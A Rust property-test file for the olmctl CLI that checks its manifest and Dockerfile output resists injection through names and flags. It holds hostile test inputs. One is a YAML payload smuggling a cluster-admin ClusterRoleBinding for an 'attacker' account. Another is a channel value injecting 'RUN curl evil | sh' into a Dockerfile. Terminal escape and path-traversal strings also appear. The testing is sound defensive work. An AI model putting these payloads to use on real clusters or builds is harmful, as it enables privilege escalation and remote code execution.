//! Printed manifests carry exactly the objects olmctl meant, whatever the input (issue 39 §1):
//! a name with a newline, `---`, `#`, quotes or control characters is either refused as the
//! API server would refuse it (exit 2, the refusal escaped) or written as a value that parses
//! back to itself. Every command that prints manifests is run as the real binary:
//! `bundle installer-rbac`, `install --print`, `install --olmv1 --print`, `bundle render
//! --olmv1` and `bundle generate` (whose files, bundle.Dockerfile included, are read back).
//!
//! The YAML is read back with the library's loader (go-yaml's rules, not the emitter that
//! wrote it) and compared with what the command means: the library's own objects for the
//! install commands, the same command's `-o json` for the renderers, the inputs for generate.

#![cfg(unix)]

mod common;

use std::path::Path;
use std::process::Output;

use common::cli::{code, olmctl, p};
use common::demo_bundle::{ANNOTATIONS, CRD, CSV};
use common::write_tree;
use proptest::prelude::*;
use serde_json::Value;

/// The documents of a YAML stream, as JSON.
fn documents(text: &str) -> Vec<Value> {
    let mut docs = Vec::new();
    olmctl::fbc::yaml::parse_documents(text, |n| {
        docs.push(serde_json::from_str(&n.to_json()).expect("node as JSON"));
    })
    .unwrap_or_else(|e| panic!("printed YAML does not parse: {e:?}\n{text}"));
    docs
}

/// What every run must hold: an exit of 0, 1 or 2; nothing on stdout when it failed; no raw
/// control character, bidi mark or forged line on stderr.
fn sane(o: &Output) -> i32 {
    let c = code(o);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(matches!(c, 0..=2), "exit {c}: {err}");
    assert!(
        !err.chars()
            .any(|ch| ch != '\n' && olmctl::text::needs_escape(ch)),
        "raw control character on stderr: {err:?}"
    );
    if c != 0 {
        assert!(
            o.stdout.is_empty(),
            "output on failure: {}",
            String::from_utf8_lossy(&o.stdout)
        );
        assert!(err.starts_with("error: "), "{err:?}");
    }
    c
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).expect("utf-8 output")
}

/// A YAML double-quoted scalar holding `s` exactly (every character outside printable ASCII
/// as an escape), to put hostile values into a bundle's files.
fn quoted(s: &str) -> String {
    let mut q = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => q.push_str("\\\""),
            '\\' => q.push_str("\\\\"),
            ' '..='~' => q.push(c),
            c if (c as u32) < 0x10000 => q.push_str(&format!("\\u{:04x}", c as u32)),
            c => q.push_str(&format!("\\U{:08x}", c as u32)),
        }
    }
    q.push('"');
    q
}

/// A ClusterRoleBinding to cluster-admin, as a bundle author would smuggle it into a name.
const INJECTED: &str = "x\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: pwned}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: ServiceAccount, name: attacker, namespace: default}]\n";

/// Text built from what breaks YAML, comments, terminals and paths, and from plain name
/// characters (so that some values are valid names).
fn hostile() -> impl Strategy<Value = String> {
    let atom = prop_oneof![
        4 => "[a-z0-9]{1,6}",
        1 => "[a-z0-9.-]{1,6}",
        1 => Just("\n".to_string()),
        1 => Just("\n---\n".to_string()),
        1 => Just("---".to_string()),
        1 => Just("#".to_string()),
        1 => Just(" # x".to_string()),
        1 => Just("\"".to_string()),
        1 => Just("'".to_string()),
        1 => Just(": ".to_string()),
        1 => Just("- ".to_string()),
        1 => Just("{[".to_string()),
        1 => Just("&a *a !!str |>".to_string()),
        1 => Just("%@`$x,?".to_string()),
        1 => Just("\u{1b}]0;title\u{7}".to_string()),
        1 => Just("\u{1b}[2J".to_string()),
        1 => Just("\r".to_string()),
        1 => Just("\t".to_string()),
        1 => Just("\u{202e}".to_string()),
        1 => Just("\u{2028}\u{85}".to_string()),
        1 => Just("\\".to_string()),
        1 => Just("../".to_string()),
        1 => Just(INJECTED.to_string()),
    ];
    prop::collection::vec(atom, 1..5).prop_map(|v| v.concat())
}

/// A valid name now and then (and whether it is one of those: a DNS-1123 label of at most 10
/// characters, valid for every name these commands write), else hostile text.
fn name() -> impl Strategy<Value = (String, bool)> {
    prop_oneof![
        2 => "[a-z]([a-z0-9-]{0,8}[a-z0-9])?".prop_map(|s| (s, true)),
        3 => hostile().prop_map(|s| (s, false)),
    ]
}

/// A version: semver now and then (and whether it is; without build metadata, whose `+` no
/// CSV name may hold), else hostile text.
fn version() -> impl Strategy<Value = (String, bool)> {
    prop_oneof![
        2 => "[0-9]\\.[1-9]?[0-9]\\.[0-9](-[a-z][a-z0-9]{0,3}(\\.[0-9])?)?".prop_map(|s| (s, true)),
        3 => hostile().prop_map(|s| (s, false)),
    ]
}

/// A valid name always.
fn plain() -> impl Strategy<Value = (String, bool)> {
    "[a-z]([a-z0-9-]{0,8}[a-z0-9])?".prop_map(|s| (s, true))
}

fn bundle_with(package: &str, csv: &str) -> tempfile::TempDir {
    let annotations = ANNOTATIONS.replace(
        "bundle.package.v1: demo",
        &format!("bundle.package.v1: {}", quoted(package)),
    );
    write_tree(&[
        ("metadata/annotations.yaml", &annotations),
        ("manifests/csv.yaml", csv),
        ("manifests/crd.yaml", CRD),
    ])
}

fn installer_rbac(bundle: &Path, extra: &[&str], format: &str) -> Output {
    let mut args = vec!["bundle", "installer-rbac", p(bundle), "-o", format];
    if !extra.contains(&"--install-namespace") {
        args.extend(["--install-namespace", "ops"]);
    }
    args.extend_from_slice(extra);
    olmctl(&args)
}

/// installer-rbac's YAML is its header comment, then exactly the objects of `-o json`.
fn check_installer_rbac(package: &str, extension: Option<&str>, sa: Option<&str>, ns: &str) -> i32 {
    let b = bundle_with(package, CSV);
    let mut extra = vec!["--install-namespace", ns];
    if let Some(e) = extension {
        extra.extend(["--cluster-extension", e]);
    }
    if let Some(s) = sa {
        extra.extend(["--service-account", s]);
    }
    let yaml = installer_rbac(b.path(), &extra, "yaml");
    let json = installer_rbac(b.path(), &extra, "json");
    assert_eq!(sane(&yaml), sane(&json));
    if code(&yaml) != 0 {
        return code(&yaml);
    }
    let text = stdout(&yaml);
    let (header, rest) = text.split_at(text.find("---\n").expect("a document"));
    let lines: Vec<&str> = header.lines().collect();
    assert_eq!(lines.len(), 2, "{header:?}");
    assert!(lines.iter().all(|l| l.starts_with("# ")), "{header:?}");
    let objects: Vec<Value> = serde_json::from_slice(&json.stdout).expect("json");
    assert_eq!(documents(rest), objects);
    assert_eq!(
        documents(&text),
        objects,
        "the header is a comment, nothing more"
    );
    let sa_name = sa
        .map(str::to_string)
        .unwrap_or_else(|| format!("{}-installer", extension.unwrap_or(package)));
    assert_eq!(objects[0]["kind"], "ServiceAccount");
    assert_eq!(objects[0]["metadata"]["name"], sa_name.as_str());
    assert_eq!(objects[0]["metadata"]["namespace"], ns);
    for o in &objects {
        assert!(
            o["kind"] != "ClusterRoleBinding" || o["metadata"]["name"] != "pwned",
            "{o}"
        );
    }
    0
}

#[test]
fn a_package_name_cannot_inject_objects_into_installer_rbac() {
    let b = bundle_with(INJECTED, CSV);
    let o = installer_rbac(b.path(), &[], "yaml");
    assert_eq!(sane(&o), 2);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("metadata/annotations.yaml")
            && err.contains("operators.operatorframework.io.bundle.package.v1")
            && err.contains("a lowercase RFC 1123 subdomain")
            && err.contains("--cluster-extension"),
        "{err}"
    );
    // Named on the command line, the same bundle is fine.
    check_installer_rbac(INJECTED, Some("demo"), None, "ops");
    // The install namespace is a Namespace's name: a label, checked before anything is read.
    let o = installer_rbac(
        b.path(),
        &["--install-namespace", "ops\n---\nkind: X"],
        "yaml",
    );
    assert_eq!(sane(&o), 2);
    assert!(String::from_utf8_lossy(&o.stderr).contains("--install-namespace"));
    // Flags are names too, and an escape sequence never reaches the terminal.
    for flag in ["--cluster-extension", "--service-account"] {
        let o = installer_rbac(b.path(), &[flag, "a\u{1b}]0;owned\u{7}\n# x"], "yaml");
        assert_eq!(sane(&o), 2);
        assert!(String::from_utf8_lossy(&o.stderr).contains(flag));
    }
    // The extension is the value of a label: at most 63 characters.
    let long = "a".repeat(64);
    let o = installer_rbac(b.path(), &["--cluster-extension", &long], "yaml");
    assert_eq!(sane(&o), 2);
    assert!(String::from_utf8_lossy(&o.stderr).contains("olmctl.dev/installer-for"));
}

fn install_v0(args: &[&str]) -> Output {
    let mut all = vec!["install"];
    all.extend_from_slice(args);
    all.push("--print");
    olmctl(&all)
}

/// `install --print` of these options: exit 0 and the library's manifests, or a refusal.
/// `version` is given with a CatalogSource only (with an image the catalog would be pulled to
/// look it up); its CSV name is then a guess, said in a comment before the documents.
fn check_install(
    package: &str,
    channel: &str,
    ns: &str,
    source: Option<&str>,
    poll: &str,
    version: Option<&str>,
) -> i32 {
    let version = version.filter(|_| source.is_some());
    // Values as `--flag=value`: a value may start with `-`, which clap takes for a flag after
    // a space (a usage error, not what is tested here).
    let (channel_arg, poll_arg) = (
        format!("--channel={channel}"),
        format!("--poll-interval={poll}"),
    );
    let version_arg = version.map(|v| format!("--version={v}"));
    let mut args = vec![package, channel_arg.as_str(), "-n", ns, poll_arg.as_str()];
    args.extend(version_arg.as_deref());
    match source {
        Some(s) => args.extend(["--catalog-source", s]),
        None => args.extend(["--catalog", "quay.io/example/catalog:v1"]),
    }
    let o = install_v0(&args);
    let c = sane(&o);
    if c != 0 {
        return c;
    }
    let want = olmctl::install::Install {
        package: package.into(),
        catalog: match source {
            Some(s) => olmctl::install::Catalog::Source(s.into()),
            None => olmctl::install::Catalog::Image("quay.io/example/catalog:v1".into()),
        },
        catalog_namespace: "olm".into(),
        channel: Some(channel.into()),
        version: version.map(str::to_string),
        starting_csv: None,
        namespace: ns.into(),
        target_namespaces: Vec::new(),
        operator_group: true,
        create_namespace: false,
        // A version pins the start, and OLM would then upgrade at once: Manual (`--approval`).
        approval: if version.is_some() {
            "Manual"
        } else {
            "Automatic"
        }
        .into(),
        gate: None,
        poll_interval: poll.into(),
        catalog_annotations: Default::default(),
    };
    let text = stdout(&o);
    let header = &text[..text.find("---\n").expect("a document")];
    assert!(header.lines().all(|l| l.starts_with("# ")), "{header:?}");
    assert_eq!(header.is_empty(), version.is_none(), "{header:?}");
    assert_eq!(documents(&text), want.manifests());
    0
}

fn check_install_v1(
    package: &str,
    version: &str,
    channel: &str,
    ns: &str,
    sa: Option<&str>,
) -> i32 {
    let (version_arg, channel_arg) = (
        format!("--version={version}"),
        format!("--channel={channel}"),
    );
    let mut args = vec![
        "install",
        package,
        "--olmv1",
        "--print",
        version_arg.as_str(),
        channel_arg.as_str(),
        "-n",
        ns,
    ];
    // With a service account the catalog is an existing one (an image would be pulled).
    let catalog = match sa {
        Some(sa) => {
            args.extend([
                "--cluster-catalog",
                "operatorhubio",
                "--service-account",
                sa,
            ]);
            olmctl::install::olmv1::Catalog::Existing("operatorhubio".into())
        }
        None => {
            args.extend(["--catalog", "quay.io/example/catalog:v1"]);
            olmctl::install::olmv1::Catalog::Image("quay.io/example/catalog:v1".into())
        }
    };
    let o = olmctl(&args);
    let c = sane(&o);
    if c != 0 {
        return c;
    }
    let want = olmctl::install::olmv1::InstallV1 {
        package: package.into(),
        catalog,
        version: Some(version.into()),
        channels: vec![channel.into()],
        namespace: ns.into(),
        service_account: sa.map(str::to_string),
        create_namespace: false,
        poll_interval_minutes: Some(30),
        installer_rbac: Vec::new(),
    };
    assert_eq!(documents(&stdout(&o)), want.manifests());
    0
}

#[test]
fn install_refuses_names_the_api_server_refuses() {
    for (args, flag) in [
        (
            vec![INJECTED, "--catalog", "quay.io/x/c:v1"],
            "the package name",
        ),
        (
            vec!["p", "--catalog", "quay.io/x/c:v1", "-n", "../kube-system"],
            "--namespace",
        ),
        (vec!["p", "--catalog-source", "a\nb"], "--catalog-source"),
        (
            vec![
                "p",
                "--catalog",
                "quay.io/x/c:v1",
                "--target-namespace",
                "a b",
            ],
            "--target-namespace",
        ),
        (
            vec![
                "p",
                "--catalog",
                "quay.io/x/c:v1",
                "--starting-csv",
                "p.v1\n---",
            ],
            "--starting-csv",
        ),
        (
            vec![
                "p",
                "--catalog",
                "quay.io/x/c:v1",
                "--version",
                "1.0.0+build",
            ],
            "the starting CSV",
        ),
    ] {
        let o = install_v0(&args);
        assert_eq!(sane(&o), 2, "{args:?}");
        assert!(
            String::from_utf8_lossy(&o.stderr).contains(flag),
            "{args:?}"
        );
    }
    for (args, flag) in [
        (
            vec![INJECTED, "--catalog", "quay.io/x/c:v1"],
            "the package name",
        ),
        (
            vec!["p", "--catalog", "quay.io/x/c:v1", "-n", "a.b"],
            "--namespace",
        ),
        (
            vec!["p", "--cluster-catalog", "x\n# y"],
            "--cluster-catalog",
        ),
        (
            vec!["p", "--cluster-catalog", "c", "--service-account", "../sa"],
            "--service-account",
        ),
    ] {
        let mut all = vec!["install"];
        all.extend_from_slice(&args);
        all.extend(["--olmv1", "--print"]);
        let o = olmctl(&all);
        assert_eq!(sane(&o), 2, "{args:?}");
        assert!(
            String::from_utf8_lossy(&o.stderr).contains(flag),
            "{args:?}"
        );
    }
    // Values that are not names are written as values.
    check_install("p", INJECTED, "ops", None, "30m\n---\nkind: X", None);
    check_install("p", "stable", "ops", Some("src"), "30m", Some("1.0.0-rc.1"));
    check_install_v1("p", "1.0.0\n# x", INJECTED, "ops", Some("installer"));
}

/// `bundle render --olmv1` of the demo bundle with `csv`, as YAML and as JSON: the objects
/// (the YAML exactly those of `-o json`), or the exit code of both.
fn render_both(csv: &str, ns: &str) -> Result<Vec<Value>, i32> {
    let b = bundle_with("demo", csv);
    let run = |format: &str| {
        olmctl(&[
            "bundle",
            "render",
            "--olmv1",
            p(b.path()),
            "--install-namespace",
            ns,
            "-o",
            format,
        ])
    };
    let (yaml, json) = (run("yaml"), run("json"));
    assert_eq!(sane(&yaml), sane(&json));
    if code(&yaml) != 0 {
        return Err(code(&yaml));
    }
    let objects: Vec<Value> = serde_json::from_slice(&json.stdout).expect("json");
    assert_eq!(documents(&stdout(&yaml)), objects);
    Ok(objects)
}

/// The demo CSV with its name, its Deployment's, the Deployment's service account and a
/// permission's (granting `rules`) replaced.
fn csv_named(csv_name: &str, deployment: &str, sa: &str, perm_sa: &str, rules: &str) -> String {
    CSV.replace("  name: demo.v1.2.0", &format!("  name: {}", quoted(csv_name)))
        .replace("- name: demo-operator", &format!("- name: {}", quoted(deployment)))
        .replace(
            "deploymentName: demo-operator",
            &format!("deploymentName: {}", quoted(deployment)),
        )
        .replace(
            "serviceAccountName: demo-operator",
            &format!("serviceAccountName: {}", quoted(sa)),
        )
        .replace(
            "      deployments:\n",
            &format!(
                "      permissions:\n      - serviceAccountName: {}\n        rules: {rules}\n      deployments:\n",
                quoted(perm_sa)
            ),
        )
}

/// `bundle render --olmv1`: the YAML is exactly the objects of `-o json`.
fn check_render(value: &str, ns: &str) -> i32 {
    let csv = CSV
        .replace(
            "    capabilities: Basic Install",
            &format!(
                "    capabilities: Basic Install\n    olmctl.dev/hostile: {}",
                quoted(value)
            ),
        )
        .replace(
            "  displayName: Demo",
            &format!("  displayName: {}", quoted(value)),
        );
    let objects = match render_both(&csv, ns) {
        Ok(o) => o,
        Err(c) => return c,
    };
    let texts = objects.iter().map(Value::to_string).collect::<String>();
    assert!(!texts.contains("\"pwned\""), "an injected object");
    0
}

/// `bundle render --olmv1` of a CSV whose own names are hostile: the CSV's name, its
/// Deployment's, the Deployment's service account and a permission's: exit 0 with the YAML
/// exactly the objects of `-o json`, those names among them, or a refusal.
fn check_render_names(csv_name: &str, deployment: &str, sa: &str, perm_sa: &str, ns: &str) -> i32 {
    let csv = csv_named(
        csv_name,
        deployment,
        sa,
        perm_sa,
        "[{apiGroups: [''], resources: [configmaps], verbs: [get]}]",
    );
    let objects = match render_both(&csv, ns) {
        Ok(o) => o,
        Err(c) => return c,
    };
    let named = |kind: &str, name: &str| {
        objects
            .iter()
            .any(|o| o["kind"] == kind && o["metadata"]["name"] == name)
    };
    // ServiceAccounts are made for the permissions' accounts (`BundleCSVServiceAccountGenerator`).
    assert!(named("ServiceAccount", perm_sa));
    assert!(named("Deployment", deployment));
    for o in &objects {
        assert!(o["metadata"]["name"] != "pwned", "an injected object: {o}");
        if o["kind"] == "Deployment" {
            assert_eq!(o["spec"]["template"]["spec"]["serviceAccountName"], sa);
        }
    }
    0
}

#[test]
fn render_refuses_csv_names_the_api_server_refuses() {
    let hostile = "sa\n# x\u{1b}[2J";
    for (args, field) in [
        (
            ["demo.v1.2.0", "demo-operator", hostile, "demo-operator"],
            "Deployment.apps \"demo-operator\" is invalid: spec.template.spec.serviceAccountName: Invalid value: \"sa\\n# x\\x1b[2J\"",
        ),
        (
            ["demo.v1.2.0", "demo-operator", "demo-operator", hostile],
            "ServiceAccount \"sa\\n# x\\x1b[2J\" is invalid: metadata.name",
        ),
        (
            // A valid Deployment name; its Service's (a DNS-1035 label) must start with a letter.
            ["demo.v1.2.0", "1demo", "demo-operator", "demo-operator"],
            "Service \"1demo-service\" is invalid: metadata.name",
        ),
    ] {
        let [csv, dep, sa, perm] = args;
        assert_eq!(check_render_names(csv, dep, sa, perm, "ops"), 1, "{args:?}");
        let csv = csv_named("demo.v1.2.0", dep, sa, perm, "[]");
        let b = bundle_with("demo", &csv);
        for cmd in [&["render", "--olmv1"][..], &["installer-rbac"][..]] {
            let mut all = vec!["bundle"];
            all.extend_from_slice(cmd);
            all.extend([p(b.path()), "--install-namespace", "ops"]);
            let o = olmctl(&all);
            let err = String::from_utf8_lossy(&o.stderr);
            assert_eq!(sane(&o), 1, "{cmd:?}: {err}");
            assert!(
                err.contains("the API server would refuse a rendered object: "),
                "{err}"
            );
            assert!(err.contains(field), "{cmd:?}: {err}");
        }
    }
    // Valid, the same names render.
    assert_eq!(
        check_render_names("demo.v1.2.0", "op", "sa-1", "sa-2", "ops"),
        0
    );
}

/// The bundle.Dockerfile LABELs as the Dockerfile parser reads them (moby/buildkit
/// `shell/lex.go`: a double-quoted value unescapes `\\`, `\"` and `\$`).
fn labels(dockerfile: &str) -> Vec<(String, String)> {
    dockerfile
        .lines()
        .filter_map(|l| l.strip_prefix("LABEL "))
        .map(|l| {
            let (k, v) = l.split_once('=').expect("key=value");
            let v = match v.strip_prefix('"') {
                Some(q) => {
                    let q = q.strip_suffix('"').expect("closing quote");
                    let mut out = String::new();
                    let mut it = q.chars();
                    while let Some(c) = it.next() {
                        match c {
                            '\\' => out.push(it.next().expect("escaped")),
                            '"' | '$' => panic!("unescaped {c} in {l}"),
                            c => out.push(c),
                        }
                    }
                    out
                }
                None => {
                    assert!(!v.contains([' ', '"', '\'', '$', '\\']), "{l}");
                    v.to_string()
                }
            };
            (k.to_string(), v)
        })
        .collect()
}

fn check_generate(package: &str, channel: &str, replaces: &str) -> i32 {
    let out = tempfile::tempdir().expect("tmp");
    let src = common::root().join("tests/data/widget-operator");
    let channels = format!("{channel},stable");
    // Values as `--flag=value`: a channel may start with `-`.
    let (channels_arg, default_arg) = (
        format!("--channels={channels}"),
        format!("--default-channel={channel}"),
    );
    let o = olmctl(&[
        "bundle",
        "generate",
        "--manifests",
        p(&src),
        "--package",
        package,
        "--version",
        "0.3.0",
        &channels_arg,
        &default_arg,
        "--replaces",
        replaces,
        "--ignore-kind",
        "Namespace",
        "-O",
        p(out.path()),
    ]);
    let c = code(&o);
    // 1: the bundle was written, and its findings listed.
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(matches!(c, 0..=2), "exit {c}: {err}");
    assert!(
        !err.chars()
            .any(|ch| ch != '\n' && olmctl::text::needs_escape(ch)),
        "{err:?}"
    );
    if c == 2 {
        assert!(
            std::fs::read_dir(out.path()).expect("out").next().is_none(),
            "written on failure"
        );
        return c;
    }
    let read = |rel: &str| std::fs::read_to_string(out.path().join(rel)).expect(rel);
    let ann = documents(&read("metadata/annotations.yaml"));
    assert_eq!(ann.len(), 1);
    let want = [
        (
            "operators.operatorframework.io.bundle.mediatype.v1",
            "registry+v1",
        ),
        (
            "operators.operatorframework.io.bundle.manifests.v1",
            "manifests/",
        ),
        (
            "operators.operatorframework.io.bundle.metadata.v1",
            "metadata/",
        ),
        ("operators.operatorframework.io.bundle.package.v1", package),
        (
            "operators.operatorframework.io.bundle.channels.v1",
            &channels,
        ),
        (
            "operators.operatorframework.io.bundle.channel.default.v1",
            channel,
        ),
    ];
    let got: Vec<(String, String)> = ann[0]["annotations"]
        .as_object()
        .expect("annotations")
        .iter()
        .map(|(k, v)| (k.clone(), v.as_str().expect("string").to_string()))
        .collect();
    let mut sorted: Vec<(String, String)> = want
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    sorted.sort();
    assert_eq!(got, sorted);
    let wanted: Vec<(String, String)> = want
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    let docker = read("bundle.Dockerfile");
    assert_eq!(labels(&docker), wanted, "{docker}");
    let instructions: Vec<&str> = docker
        .lines()
        .filter(|l| !l.is_empty())
        .map(|l| l.split(' ').next().unwrap_or(""))
        .collect();
    assert_eq!(
        instructions,
        [
            "FROM", "LABEL", "LABEL", "LABEL", "LABEL", "LABEL", "LABEL", "COPY", "COPY"
        ]
    );
    let csv = documents(&read(&format!(
        "manifests/{package}.clusterserviceversion.yaml"
    )));
    assert_eq!(
        csv[0]["metadata"]["name"],
        format!("{package}.v0.3.0").as_str()
    );
    assert_eq!(csv[0]["spec"]["replaces"], replaces);
    0
}

#[test]
fn generate_refuses_channels_that_would_break_its_files() {
    let out = tempfile::tempdir().expect("tmp");
    let src = common::root().join("tests/data/widget-operator");
    let o = olmctl(&[
        "bundle",
        "generate",
        "--manifests",
        p(&src),
        "--package",
        "widget",
        "--version",
        "0.3.0",
        "--channels",
        "stable\nRUN curl evil | sh",
        "--ignore-kind",
        "Namespace",
        "-O",
        p(out.path()),
    ]);
    assert_eq!(code(&o), 2);
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("--channels \"stable\\nRUN curl evil | sh\"")
    );
    assert!(std::fs::read_dir(out.path()).expect("out").next().is_none());
    // A channel with a space or a `$` is quoted in the LABEL, and reads back as itself.
    check_generate("widget", "fast lane $HOME \"q\"", "widget.v0.2.0");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]

    // Each property meets hostile names (refused, or written as themselves) and, when every
    // name drawn is a plain one, must print: so no run passes by refusing everything.

    #[test]
    fn installer_rbac_prints_exactly_its_objects(package in name(), ext in proptest::option::of(name()), sa in proptest::option::of(name()), ns in name()) {
        let plain = package.1 && ext.as_ref().is_none_or(|e| e.1) && sa.as_ref().is_none_or(|s| s.1) && ns.1;
        let c = check_installer_rbac(&package.0, ext.as_ref().map(|e| e.0.as_str()), sa.as_ref().map(|s| s.0.as_str()), &ns.0);
        prop_assert!(!plain || c == 0, "plain names refused");
    }

    #[test]
    fn install_print_writes_exactly_its_manifests(package in name(), channel in hostile(), ns in name(), source in proptest::option::of(name()), poll in hostile(), version in proptest::option::of(version())) {
        let plain = package.1 && ns.1 && source.as_ref().is_none_or(|s| s.1) && version.as_ref().is_none_or(|v| v.1);
        let c = check_install(&package.0, &channel, &ns.0, source.as_ref().map(|s| s.0.as_str()), &poll, version.as_ref().map(|v| v.0.as_str()));
        prop_assert!(!plain || c == 0, "plain names refused");
    }

    #[test]
    fn install_print_writes_hostile_values_as_themselves(package in plain(), channel in hostile(), ns in plain(), poll in hostile()) {
        prop_assert_eq!(check_install(&package.0, &channel, &ns.0, None, &poll, None), 0);
    }

    #[test]
    fn install_olmv1_print_writes_exactly_its_manifests(package in name(), version in hostile(), channel in hostile(), ns in name(), sa in proptest::option::of(name())) {
        let plain = package.1 && ns.1 && sa.as_ref().is_none_or(|s| s.1);
        let c = check_install_v1(&package.0, &version, &channel, &ns.0, sa.as_ref().map(|s| s.0.as_str()));
        prop_assert!(!plain || c == 0, "plain names refused");
    }

    #[test]
    fn install_olmv1_print_writes_hostile_values_as_themselves(package in plain(), version in hostile(), channel in hostile(), ns in plain()) {
        prop_assert_eq!(check_install_v1(&package.0, &version, &channel, &ns.0, Some("installer")), 0);
    }

    #[test]
    fn bundle_render_olmv1_prints_exactly_its_objects(value in hostile(), ns in name()) {
        let c = check_render(&value, &ns.0);
        prop_assert!(!ns.1 || c == 0, "a plain namespace refused");
    }

    #[test]
    fn bundle_render_olmv1_checks_the_csvs_names(csv in name(), dep in name(), sa in name(), perm in name(), ns in name()) {
        let plain = csv.1 && dep.1 && sa.1 && perm.1 && ns.1;
        let c = check_render_names(&csv.0, &dep.0, &sa.0, &perm.0, &ns.0);
        prop_assert!(!plain || c == 0, "plain names refused");
    }

    #[test]
    fn bundle_render_olmv1_renders_plain_csv_names(csv in plain(), dep in plain(), sa in plain(), perm in plain(), ns in plain()) {
        prop_assert_eq!(check_render_names(&csv.0, &dep.0, &sa.0, &perm.0, &ns.0), 0);
    }

    #[test]
    fn bundle_render_olmv1_refuses_a_line_break_in_any_csv_name(which in 0..3usize, bad in hostile(), names in [plain(), plain(), plain()]) {
        // A Deployment's, a service account's or a permission's name with a line break is no
        // subdomain: refused, whatever else it holds.
        let bad = format!("{bad}\n");
        let mut n: Vec<String> = names.iter().map(|x| x.0.clone()).collect();
        n[which] = bad;
        prop_assert_eq!(check_render_names("demo.v1.2.0", &n[0], &n[1], &n[2], "ops"), 1);
    }

    #[test]
    fn bundle_generate_writes_exactly_its_inputs(package in name(), channel in hostile(), replaces in name()) {
        // A channel is refused for a line break, a control or bidi character; a comma splits it
        // in two (and the default channel is then not among them), and a blank one is refused.
        let usable = !channel.chars().any(olmctl::text::needs_escape)
            && !channel.contains(',')
            && !channel.trim().is_empty();
        let c = check_generate(&package.0, &channel, &replaces.0);
        prop_assert!(!(package.1 && replaces.1 && usable) || c != 2, "plain inputs refused");
    }
}
